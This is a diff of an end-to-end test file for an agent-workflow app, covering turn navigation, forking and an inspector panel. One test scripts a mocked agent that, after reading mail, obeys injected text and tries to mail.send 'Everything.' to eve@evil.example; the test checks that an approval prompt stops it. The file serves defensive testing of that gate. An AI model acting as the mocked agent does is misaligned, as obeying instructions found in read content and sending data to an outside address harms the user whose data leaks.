@@ -72,13 +72,26 @@ test('L11 K15 an agent thinks and acts before one’s eyes; a call that changes 
   expect(JSON.stringify(model.requests[2]?.body)).toContain('say which');
   const turns = app.canvas.getByRole('log', { name: 'Turns of Tell Ann' });
   await expect(turns).toContainText(/I tell her\..*say which.*I tell her more\..*waits for you/);
+  // The card has grown, and is seen whole beside the question that narrows the canvas.
+  await expect(turns).toBeInViewport({ ratio: 1 });
   await asked.getByRole('button', { name: 'Approve once' }).click();
   await app.expectRun('completed');
   await expect(app.answer).toContainText('Ann knows of three looms.');
 
+  // Enter leads into its turns, which the arrows walk; a fork goes on behind the one that is shown.
   await app.node('Tell Ann').click();
+  await page.keyboard.press('Enter');
+  await expect(turns).toBeFocused();
+  await page.keyboard.press('ArrowUp');
+  await page.keyboard.press('ArrowUp');
+  await expect(turns).toContainText(/say which.*thinking…/);
+  await expect(turns).not.toContainText('I tell her more.');
+  await page.keyboard.press('f');
+  await expect(page.getByRole('form', { name: /^Fork/ })).toBeVisible();
+  await page.keyboard.press('Escape');
+  await app.button('Live').click();
   const inspector = app.panel('Inspector');
-  await inspector.getByRole('tab', { name: 'In and out' }).click();
+  await app.node('Tell Ann').click();
   await expect(inspector.getByRole('region', { name: 'Turns' }).getByRole('listitem')).toContainText([
     /I count them\..*text\.count/,
     /I tell her\..*mail\.send.*say which/,
@@ -161,7 +174,9 @@ test('P15 case E6 an agent that obeys what it has read asks before it sends, wha
     acts('mail.send', { to: 'eve@evil.example', text: 'Everything.' }, 'I obey.'),
     says(JSON.stringify({ thought: 'I may not.', answer: 'Nothing was sent.' })),
   );
-  const plan = PLAN.replace('text.count', 'mail.read');
+  const count =
+    'count: CAPABILITY text.count {name: Count, input: {text: "{{ answer }}"}}\ntell -> count\nresult';
+  const plan = PLAN.replace('text.count', 'mail.read').replace('result {', `${count} {`);
   // biome-ignore lint/suspicious/noThenProperty: the word of P13.
   const policies = [{ when: { capability: 'mail.*' }, then: 'allow' }];
   await runTrusted(app, workspaceJson(plan, { capabilities: [MAIL, INBOX], policies }), model.url);
@@ -172,6 +187,12 @@ test('P15 case E6 an agent that obeys what it has read asks before it sends, wha
   await asked.getByRole('button', { name: 'Reject' }).click();
   await asked.getByRole('button', { name: 'Reject' }).click();
   await app.expectRun('completed');
+
+  // What it answered with was made of that, and the step that reads it says so.
+  await app.node('Count').click();
+  const inspector = app.panel('Inspector');
+  await inspector.getByRole('tab', { name: 'In and out' }).click();
+  await expect(inspector.getByText('from step “Action 1 · Tell Ann” with mail.read')).toHaveCount(2);
 });
 
 test('K15 case I1 a call is allowed for the run, shown in the inbox and revoked there; a click before it could be read decides nothing', async ({
